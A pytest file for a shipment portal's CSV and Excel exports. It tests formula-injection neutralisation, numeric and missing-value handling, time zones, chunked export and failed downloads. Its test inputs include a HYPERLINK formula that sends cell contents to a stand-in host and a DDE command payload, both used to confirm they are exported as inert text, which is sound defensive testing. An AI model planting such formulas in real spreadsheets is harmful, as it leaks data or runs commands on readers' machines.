"""CSV and Excel downloads: formula-like text is shown, never run; numbers stay numbers; missing values are empty
cells; and a download that fails is never taken for a finished file."""

from __future__ import annotations

import csv
import gc
import glob
import io
import logging
import tempfile
import threading
import time
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import httpx
import numpy as np
import openpyxl
import pandas as pd
import pytest
import uvicorn
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlmodel import select

from bench.app_server import free_port
from bench.exports import FORMULA_PO, add_plain_shipments
from models import Shipment, User
from portal_app.api import exports
from portal_app.api.app import build_api
from portal_app.api.errors import install_error_handlers
from portal_app.services.spreadsheets import Sheet, cell, csv_bytes, xlsx_file
from tests.factories import PASSWORD, World
from tests.quote_world import QuoteWorld, fresh_pg_world, sqlite_world

HOSTILE_PO = '=HYPERLINK("http://x.invalid/"&A2,"X")'


# ------------------------------------------------------------------------------------------------------ cells


@pytest.mark.parametrize("text", [HOSTILE_PO, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
                                  "=cmd|' /C calc'!A0"])
def test_formula_like_text_starts_with_an_apostrophe(text: str):
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["PO-123", "a=b", "Müller & Söhne", " =1+1", "", "'quoted"])
def test_other_text_is_left_as_it_is(text: str):
    assert cell(text) == text


def test_a_hidden_control_character_cannot_hide_a_formula():
    # Excel files cannot hold it, so it is dropped; then the formula check sees what a spreadsheet would see.
    assert cell("\x01=1+1") == "'=1+1"
    assert cell("PO\x0012") == "PO12"


def test_numbers_stay_numbers_and_missing_values_are_empty():
    assert cell(-90) == -90 and isinstance(cell(-90), int)
    assert cell(Decimal("-12.50")) == Decimal("-12.50")
    assert cell(-1.5) == -1.5
    assert cell(np.int64(-3)) == -3 and type(cell(np.int64(-3))) is int
    assert cell(True) is True
    for missing in (None, float("nan"), Decimal("NaN"), float("inf"), pd.NaT, np.float64("nan")):
        assert cell(missing) is None, missing


def test_times_are_iso_8601_with_the_offset_of_the_readers_zone_and_days_iso():
    cet = timezone(timedelta(hours=1))
    assert cell(datetime(2026, 3, 2, 9, 30, tzinfo=cet)) == "2026-03-02T08:30:00+00:00"  # no zone given: UTC
    assert cell(datetime(2026, 3, 2, 9, 30, tzinfo=UTC), "America/New_York") == "2026-03-02T04:30:00-05:00"
    assert cell(datetime(2026, 7, 2, 9, 30, tzinfo=UTC), "Europe/Amsterdam") == "2026-07-02T11:30:00+02:00"
    assert cell(datetime(2026, 3, 2, 9, 30), "Asia/Tokyo") == "2026-03-02T18:30:00+09:00"  # stored UTC, no tzinfo
    assert cell(date(2026, 3, 2), "Asia/Tokyo") == "2026-03-02"
    assert datetime.fromisoformat(cell(datetime(2026, 3, 2, 9, 30, tzinfo=UTC), "Asia/Kolkata")) == \
        datetime(2026, 3, 2, 9, 30, tzinfo=UTC)  # the same instant for a program that reads it


def test_a_sheet_names_its_zone_in_its_time_headers():
    sheet = Sheet.of("T", {"at": "Sent ({zone})", "n": "Count"}, [{"at": datetime(2026, 1, 5, 12, tzinfo=UTC),
                                                                   "n": 2}], timezone="America/New_York")
    assert csv_bytes(sheet).decode("utf-8-sig").splitlines() == [
        '"Sent (America/New_York)","Count"', '"2026-01-05T07:00:00-05:00",2']
    assert Sheet.of("T", {"at": "Sent ({zone})"}, [], timezone="Not/AZone").timezone == "UTC"  # unknown: UTC


def test_an_unknown_type_is_a_programming_error():
    with pytest.raises(TypeError, match="no spreadsheet cell"):
        cell(object())


# ---------------------------------------------------------------------------------------------------- writers

ROW = [HOSTILE_PO, "x;=1+1", -90, Decimal("-1234.50"), None, "#N/A", date(2026, 3, 2)]
HEADER = ["PO", "Note", "Delay", "Balance", "Arrived", "Code", "Due"]


def test_csv_quotes_every_text_and_leaves_numbers_bare():
    body = csv_bytes(Sheet("Test", HEADER, [ROW]))
    assert body.startswith("\ufeff".encode())
    lines = body.decode("utf-8-sig").split("\r\n")
    assert lines[0] == '"PO","Note","Delay","Balance","Arrived","Code","Due"'
    # Text in quotes (another locale's ";" cannot start a cell), the formula with its apostrophe, numbers bare.
    assert lines[1] == '"\'=HYPERLINK(""http://x.invalid/""&A2,""X"")","x;=1+1",-90,-1234.50,"","#N/A","2026-03-02"'
    assert next(csv.reader(io.StringIO(lines[1])))[0] == "'" + HOSTILE_PO


def test_workbook_cells_are_text_or_numbers_never_formulas():
    with xlsx_file([Sheet("Test", HEADER, [ROW])]) as out:
        data = out.read()
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    po, note, delay, balance, arrived, code, due = ws[2]
    assert (po.value, po.data_type) == ("'" + HOSTILE_PO, "s")
    assert (delay.value, delay.data_type) == (-90, "n")
    assert (balance.value, balance.data_type) == (-1234.5, "n")
    assert arrived.value is None
    assert (code.value, code.data_type) == ("#N/A", "s")  # text, not Excel's error value
    assert due.value == "2026-03-02" and note.value == "x;=1+1"


# --------------------------------------------------------------------------- the shipment export over the API


@pytest.fixture()
def hostile_shipment(world: World, db) -> Iterator[str]:
    """An Alfa shipment whose PO is a formula, which has not departed or arrived and came in early."""
    ref = world.shipments["ALFA"][0]
    row = db.exec(select(Shipment).where(Shipment.reference == ref)).one()
    before = (row.customer_po, row.etd_planned, row.etd_estimated, row.atd, row.ata, row.delay_minutes)
    row.customer_po, row.etd_planned, row.etd_estimated, row.atd, row.ata, row.delay_minutes = (
        HOSTILE_PO, None, None, None, None, -90)
    db.add(row)
    db.commit()
    yield ref
    row.customer_po, row.etd_planned, row.etd_estimated, row.atd, row.ata, row.delay_minutes = before
    db.add(row)
    db.commit()


def _staff() -> TestClient:
    client = TestClient(build_api())
    assert client.post("/api/auth/login", json={"email": "ops_agent@fwd.test", "password": PASSWORD}).status_code == 200
    return client


def test_staff_csv_export_shows_a_customers_formula_as_text(hostile_shipment: str):
    resp = _staff().get("/api/v1/shipments/export", params={"format": "csv", "q": hostile_shipment})
    assert resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1
    assert rows[0]["Customer PO"] == "'" + HOSTILE_PO
    assert rows[0]["Departure (UTC)"] == "" and rows[0]["Arrived (UTC)"] == ""  # missing, not NaT
    assert ",-90," in resp.text  # a number, unquoted


def test_staff_excel_export_holds_no_formula(hostile_shipment: str):
    resp = _staff().get("/api/v1/shipments/export", params={"format": "xlsx", "q": hostile_shipment})
    assert resp.status_code == 200
    assert int(resp.headers["content-length"]) == len(resp.content)
    sheet_xml = zipfile.ZipFile(io.BytesIO(resp.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = openpyxl.load_workbook(io.BytesIO(resp.content)).active
    header = [c.value for c in ws[1]]
    row = dict(zip(header, ws[2], strict=True))
    assert (row["Customer PO"].value, row["Customer PO"].data_type) == ("'" + HOSTILE_PO, "s")
    assert (row["Delay (minutes)"].value, row["Delay (minutes)"].data_type) == (-90, "n")
    assert row["Departure (UTC)"].value is None and row["Arrived (UTC)"].value is None
    assert ws.max_row == 2


# ------------------------------------------------------------------- every row, in chunks, on both databases

CHUNKED_ROWS = 5_000  # more than two of the export's database chunks


def _export_world(prefix: str, pg: bool) -> Iterator[QuoteWorld]:
    worlds = fresh_pg_world(prefix) if pg else sqlite_world(prefix)
    for world in worlds:
        add_plain_shipments(world.engine, CHUNKED_ROWS, company_code="NORD")
        yield world


@pytest.fixture(scope="module")
def export_world() -> Iterator[QuoteWorld]:
    yield from _export_world("portal-exports", pg=False)


@pytest.fixture(scope="module")
def pg_export_world() -> Iterator[QuoteWorld]:
    yield from _export_world("portal_exports", pg=True)


@pytest.mark.parametrize("database", ["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def test_the_export_holds_every_row_read_in_chunks(database: str, request):
    """Rows come from the database in chunks while the file is written (a server-side cursor on PostgreSQL),
    through the request's own session: every row arrives once, in order, missing dates empty."""
    world: QuoteWorld = request.getfixturevalue("export_world" if database == "sqlite" else "pg_export_world")
    nina = world.client("nina@nordwind.example")
    total = nina.get("/api/v1/shipments", params={"page_size": 1}).json()["total"]
    assert total == CHUNKED_ROWS

    resp = nina.get("/api/v1/shipments/export", params={"format": "csv", "sort": "reference"})
    rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"), newline="")))
    assert [r["Shipment"] for r in rows] == [f"SX{i:07d}" for i in range(CHUNKED_ROWS)]
    with world.session() as db:  # her own zone (her account's), named in the header
        zone = db.exec(select(User.timezone).where(User.email == "nina@nordwind.example")).one()
    departure = f"Departure ({zone})"
    assert rows[0]["Customer PO"] == "'" + FORMULA_PO and rows[0][departure] == ""
    moment = datetime.fromisoformat(rows[1][departure])
    assert moment == datetime(2026, 1, 1, 0, 1, tzinfo=UTC) and moment.utcoffset() == ZoneInfo(zone).utcoffset(moment)

    book = nina.get("/api/v1/shipments/export", params={"format": "xlsx", "sort": "reference"})
    ws = openpyxl.load_workbook(io.BytesIO(book.content), read_only=True).active
    assert sum(1 for _ in ws.iter_rows()) == CHUNKED_ROWS + 1


# -------------------------------------------------------------------------------------- when a download fails


def _rows_failing_after(count: int) -> Iterator[list[object]]:
    for i in range(count):
        yield [f"SH{i:07d}", i]
    raise RuntimeError("database connection lost")


def _failing_app(after: int) -> FastAPI:
    app = FastAPI()
    install_error_handlers(app)

    @app.get("/broken.csv")
    def broken_csv():
        return exports.csv_download(Sheet("Broken", ["Shipment", "N"], _rows_failing_after(after)), "broken.csv")

    @app.get("/broken.xlsx")
    def broken_xlsx():
        return exports.xlsx_download([Sheet("Broken", ["Shipment", "N"], _rows_failing_after(after))], "broken.xlsx")

    return app


@pytest.mark.parametrize("path", ["/broken.csv", "/broken.xlsx"])
def test_a_failure_before_the_first_byte_is_an_error_answer(path: str, caplog):
    """The query and the first rows run before the answer starts (a workbook is built whole)."""
    resp = TestClient(_failing_app(after=3), raise_server_exceptions=False).get(path)
    assert resp.status_code == 500
    assert resp.json()["error"]["code"] == "internal_error"
    assert "database connection lost" in caplog.text


def test_a_workbook_failing_late_is_still_an_error_answer():
    resp = TestClient(_failing_app(after=20_000), raise_server_exceptions=False).get("/broken.xlsx")
    assert resp.status_code == 500 and resp.json()["error"]["code"] == "internal_error"


@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")
def test_a_workbook_that_fails_leaves_no_temporary_file():
    """openpyxl keeps a write-only sheet in a temporary file; a failed workbook deletes it at once."""
    pattern = str(Path(tempfile.gettempdir()) / "openpyxl.*")
    before = set(glob.glob(pattern))
    with pytest.raises(RuntimeError, match="connection lost"):
        xlsx_file([Sheet("Broken", ["Shipment", "N"], _rows_failing_after(5_000))])
    gc.collect()
    assert set(glob.glob(pattern)) - before == set()


def test_a_csv_failing_after_it_started_is_cut_off_and_logged(caplog):
    """Past the first block the status is sent: the connection is cut before the end of the chunked body, so
    the client reports an incomplete download (here httpx against uvicorn, as in production), and the log says
    which download failed."""
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(_failing_app(after=20_000), host="127.0.0.1", port=port,
                                           log_level="critical"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 20
        while not server.started:
            assert time.monotonic() < deadline, "uvicorn did not start"
            time.sleep(0.05)
        received = bytearray()
        with (caplog.at_level(logging.ERROR, logger="portal_app.api.exports"),
              pytest.raises(httpx.RemoteProtocolError),
              httpx.stream("GET", f"http://127.0.0.1:{port}/broken.csv", timeout=20) as resp):
            assert resp.status_code == 200
            for block in resp.iter_bytes():
                received += block
        assert received.startswith("\ufeff".encode()) and len(received) > 64 * 1024
        assert "download broken.csv failed after it started" in caplog.text
    finally:
        server.should_exit = True
        thread.join(timeout=20)
